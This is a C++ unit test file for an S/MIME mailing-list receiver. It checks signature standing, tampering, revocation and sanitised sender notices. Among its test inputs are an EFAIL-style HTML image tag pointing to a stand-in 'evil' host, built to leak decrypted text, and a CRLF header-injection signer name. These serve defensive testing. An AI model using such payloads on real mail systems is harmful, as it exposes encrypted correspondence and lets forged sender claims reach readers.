#include "core/seal/SmimeSealer.h"
#include "core/seal/SmimeSigner.h"
#include "listd/receive/Reception.h"
#include "tests/unit/listd/ListdFixture.h"

using namespace postern;
using namespace postern::test;

namespace {

constexpr auto Canary = "The figures are larger.";

struct Scene {
  TempFolder folder;
  config::SiteConfig config = siteConfig(folder.path());
  SystemClock clock;
  SiteContext context{config, clock};
  List board = makeList(context, "board@lists.example", true);
  SigningIdentity ann = identityOf("ann@example.org");
  SigningIdentity bob = identityOf("bob@example.org");

  Scene() {
    confirm(ann, "ann@example.org");
    confirm(bob, "bob@example.org");
  }

  SigningIdentity identityOf(const std::string& address) const {
    return SigningIdentity::create(address, clock.now(), std::chrono::days(100));
  }
  void confirm(const SigningIdentity& identity, const std::string& address) {
    auto key = importKey(identity.certificate().der(), address, clock.now(), nullptr);
    BOOST_REQUIRE(key.has_value());
    BOOST_REQUIRE((key->facts.state == KeyState::Confirmed));
    context.site.write([&](SiteTables& tables) { tables.keys.add(*key); });
  }

  std::string signedBy(const SigningIdentity& who, const std::string& entity) const {
    return seal::SmimeSigner(who).sign(entity, clock.now());
  }
  std::string encrypted(const std::string& entity) const {
    const auto body = seal::SharedBody::encrypt("MIME-Version: 1.0\r\n" + entity);
    auto key = RecipientKey::of(signingIdentity(context, board).certificate());
    return seal::SmimeSealer().head(body, key) + body.tail();
  }
  std::optional<Reception> receive(const std::string& entity, const std::string& from = "ann@example.org") {
    return receivePost(context, post(entity, from), board);
  }
  static mail::Message post(const std::string& entity, const std::string& from = "ann@example.org") {
    return mail::Message::parse("From: Ann <" + from +
                                ">\r\nTo: board@lists.example\r\nSubject: ...\r\n"
                                "Date: Sun, 01 Mar 2026 12:00:00 +0000\r\nMessage-ID: <1@example.org>\r\n" +
                                entity)
        .value();
  }
  std::string standing(const std::string& entity, const std::string& from = "ann@example.org") {
    const auto reception = receive(entity, from);
    return reception ? standingWord(reception->check.standing) : "refused";
  }
};

std::string text(const std::string& header = {}) {
  return "Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\n" + header + "\r\n" + Canary + "\r\n";
}

}  // namespace

BOOST_AUTO_TEST_SUITE(listd_receive_Reception)

BOOST_AUTO_TEST_CASE(mail_encrypted_to_the_list_and_signed_by_its_author_is_opened) {
  Scene scene;
  const auto inner = text(
      "From: Ann <ann@example.org>\r\nSubject: Secure: b\xc3\xbc"
      "dget\r\n");
  const auto reception = scene.receive(scene.encrypted(scene.signedBy(scene.ann, inner)));
  BOOST_REQUIRE(reception);
  BOOST_TEST(reception->message.bytes().find(Canary) != std::string::npos);
  BOOST_TEST(reception->message.subject() ==
             "Secure: b\xc3\xbc"
             "dget");
  BOOST_TEST(reception->message.header().count("Content-Type") == 1u);
  BOOST_TEST(reception->message.header().value("Content-Type")->find("multipart/signed") != std::string::npos);
  const auto& check = reception->check;
  BOOST_TEST((check.encryption == CryptoForm::Smime));
  BOOST_TEST(standingWord(check.standing) == "good");
  BOOST_TEST(check.signer == "ann@example.org");
  BOOST_TEST(check.fingerprint == scene.ann.certificate().fingerprint());
  BOOST_TEST((SenderCheck::fromJson(check.json()) == check));
}

// With CBC a block that nobody signed can be changed unseen: the text before the first part, or the outer header.
BOOST_AUTO_TEST_CASE(encrypted_mail_that_was_changed_beside_its_signed_part_is_refused) {
  Scene scene;
  const auto entity = scene.signedBy(scene.ann, text());
  const auto with = [&](const std::string& preamble) {
    auto changed = entity;
    return changed.insert(changed.find("\r\n\r\n") + 4, preamble + "\r\n");
  };
  for (const std::string preamble : {"A message in several parts.", "Ceci est un message sign\xc3\xa9"})
    BOOST_TEST(scene.standing(scene.encrypted(with(preamble))) == "good");
  for (const std::string preamble : {"A mess\x8f\xfe\x01", "A message \x1b[2J"}) {
    BOOST_TEST(scene.standing(scene.encrypted(with(preamble))) == "refused");
    BOOST_TEST(scene.standing(with(preamble)) == "good");  // was not encrypted: nothing is given away
  }
  BOOST_TEST(scene.standing(scene.encrypted("X-\xff: y\r\n" + entity)) == "refused");
}

BOOST_AUTO_TEST_CASE(encrypted_mail_counts_only_with_its_authors_signature) {
  Scene scene;
  const auto stranger = scene.identityOf("ann@example.org");  // names ann, but the site never saw it
  BOOST_TEST(scene.standing(scene.encrypted(text())) == "refused");
  BOOST_TEST(scene.standing(scene.encrypted(scene.signedBy(stranger, text()))) == "refused");
  BOOST_TEST(scene.standing(scene.encrypted(scene.signedBy(scene.bob, text()))) == "refused");
  auto changed = scene.signedBy(scene.ann, text());
  changed.replace(changed.find("larger"), 6, "biggest");
  BOOST_TEST(scene.standing(scene.encrypted(changed)) == "refused");
  BOOST_TEST(scene.standing(scene.encrypted(scene.signedBy(scene.ann, text("From: bob@example.org\r\n")))) ==
             "refused");
}

BOOST_AUTO_TEST_CASE(ciphertext_taken_from_elsewhere_is_never_opened) {
  Scene scene;
  const auto captured = scene.encrypted(scene.signedBy(scene.ann, text()));
  // As bob's own mail, and as a part of somebody's: the author's signature does not fit, or nothing is looked at.
  BOOST_TEST(scene.standing(captured, "bob@example.org") == "refused");
  for (const auto* type : {"multipart/mixed; boundary=b", "multipart/alternative; boundary=b"}) {
    const auto reception = scene.receive("Content-Type: " + std::string(type) +
                                         "\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/?"
                                         "\r\n--b\r\n" +
                                         captured + "\r\n--b--\r\n");
    BOOST_REQUIRE(reception);
    BOOST_TEST(reception->message.bytes().find(Canary) == std::string::npos);
    BOOST_TEST(reception->check.isPlain());
  }
  const auto forwarded = scene.receive("Content-Type: message/rfc822\r\n\r\n" + captured);
  BOOST_REQUIRE(forwarded);
  BOOST_TEST(forwarded->message.bytes().find(Canary) == std::string::npos);
}

BOOST_AUTO_TEST_CASE(a_signature_on_open_mail_is_judged_and_the_mail_stays_as_it_is) {
  Scene scene;
  const auto stranger = scene.identityOf("ann@example.org");
  auto changed = scene.signedBy(scene.ann, text());
  changed.replace(changed.find("larger"), 6, "biggest");
  BOOST_TEST(scene.standing(scene.signedBy(scene.ann, text())) == "good");
  BOOST_TEST(scene.standing(scene.signedBy(stranger, text())) == "unknown-signer");
  BOOST_TEST(scene.standing(scene.signedBy(scene.bob, text())) == "other-signer");
  BOOST_TEST(scene.standing(changed) == "bad");
  BOOST_TEST(scene.standing(text()) == "none");
  const auto entity = scene.signedBy(scene.ann, text());
  BOOST_TEST(scene.receive(entity)->message.bytes() == Scene::post(entity).bytes());
}

BOOST_AUTO_TEST_CASE(a_revoked_or_proposed_certificate_proves_nothing) {
  Scene scene;
  const auto& fingerprint = scene.ann.certificate().fingerprint();
  for (const auto state : {KeyState::Revoked, KeyState::Proposed}) {
    scene.context.site.write([&](SiteTables& tables) { tables.keys.setState(fingerprint, state); });
    BOOST_TEST(scene.standing(scene.signedBy(scene.ann, text())) == "unknown-signer");
    BOOST_TEST(scene.standing(scene.encrypted(scene.signedBy(scene.ann, text()))) == "refused");
  }
}

BOOST_AUTO_TEST_CASE(an_authority_does_not_bring_a_revoked_certificate_back) {
  TempFolder folder;
  SystemClock clock;
  const auto ann = SigningIdentity::create("ann@example.org", clock.now(), std::chrono::days(100));
  files::replaceDurably(folder / "ca.pem", ann.certificate().pem());
  auto config = siteConfig(folder.path());
  config.certificateAuthorities = folder / "ca.pem";
  SiteContext context(config, clock);
  const auto board = makeList(context, "board@lists.example", true);
  const auto standing = [&] {
    const auto mail = Scene::post(seal::SmimeSigner(ann).sign(text(), clock.now()));
    return std::string(standingWord(receivePost(context, mail, board).value().check.standing));
  };
  BOOST_TEST(standing() == "good");  // by the authority alone
  auto key = importKey(ann.certificate().der(), "ann@example.org", clock.now(), context.trustStore().get()).value();
  context.site.write([&](SiteTables& tables) { tables.keys.add(key); });
  BOOST_TEST(standing() == "good");
  context.site.write([&](SiteTables& tables) {
    tables.keyRing.noteRevocation(key.facts.fingerprint,
                                  {"revoked", "", clock.now(), clock.now() + std::chrono::hours(1)});
    tables.keys.rejudge(tables.keys.find(key.address, key.facts.fingerprint).value());
  });
  BOOST_TEST(standing() == "unknown-signer");
  context.site.write([&](SiteTables& tables) {
    tables.keyRing.noteRevocation(key.facts.fingerprint,
                                  {"good", "", clock.now(), clock.now() + std::chrono::hours(1)});
    auto again = tables.keys.find(key.address, key.facts.fingerprint).value();
    again.facts.verdict = Reason::ValidCertificate;
    tables.keys.rejudge(again);
  });
  BOOST_TEST(standing() == "good");
  context.site.write([&](SiteTables& tables) { tables.keys.setState(key.facts.fingerprint, KeyState::Revoked); });
  BOOST_TEST(standing() == "unknown-signer");
}

BOOST_AUTO_TEST_CASE(readers_are_told_no_more_of_the_sender_than_was_proven) {
  SenderCheck check;
  check.encryption = CryptoForm::Smime;
  const auto told = [&](DomainProof domain) {
    return senderCheckText(check, "ann@example.org", "board@lists.example", domain);
  };
  const auto has = [](const std::string& text, const char* part) { return text.find(part) != text.npos; };
  BOOST_TEST(has(told(DomainProof::Proven), "Sender: ann@example.org (its domain is proven, the person is not)\r\n"));
  BOOST_TEST(has(told(DomainProof::Proven), "Signature: none. Anybody in the sender's domain"));
  for (const auto domain : {DomainProof::NotLooked, DomainProof::NotProven, DomainProof::Unknown}) {
    BOOST_TEST(has(told(domain), "Sender: ann@example.org (as the message says"));
    BOOST_TEST(has(told(domain), "Signature: none. Anybody could have written this"));
    BOOST_TEST(!has(told(domain), "is proven"));
  }
  check.signature = CryptoForm::Smime;
  for (const auto standing :
       {SignatureStanding::Bad, SignatureStanding::OtherSigner, SignatureStanding::UnknownSigner}) {
    check.standing = standing;
    BOOST_TEST(!has(told(DomainProof::NotProven), "proven by"));
  }
  check.standing = SignatureStanding::Good;
  BOOST_TEST(has(told(DomainProof::NotProven), "Sender: ann@example.org (proven by the signature)"));
}

BOOST_AUTO_TEST_CASE(what_the_gateway_found_of_the_domain_is_read_from_the_post) {
  BOOST_TEST((domainProofOf(R"({"senderProven":"yes"})") == DomainProof::Proven));
  BOOST_TEST((domainProofOf(R"({"senderProven":"no"})") == DomainProof::NotProven));
  BOOST_TEST((domainProofOf(R"({"senderProven":"unknown"})") == DomainProof::Unknown));
  BOOST_TEST((domainProofOf(R"({"senderProven":"YES, of course"})") == DomainProof::Unknown));
  BOOST_TEST((domainProofOf("{}") == DomainProof::NotLooked));
  BOOST_TEST((domainProofOf("") == DomainProof::NotLooked));
}

BOOST_AUTO_TEST_CASE(readers_are_told_in_plain_ascii_whatever_the_key_says) {
  SenderCheck check;
  check.signature = CryptoForm::Smime;
  check.standing = SignatureStanding::OtherSigner;
  check.signer = "evil\r\nSignature: good";
  const auto told = senderCheckText(check, "ann@example.org", "board@lists.example");
  BOOST_TEST(told.find("\r\nSignature: by somebody else: certificate of evil??Signature: good.") != std::string::npos);
  BOOST_TEST(told.find("\r\nSignature: good") == std::string::npos);
}

BOOST_AUTO_TEST_SUITE_END()
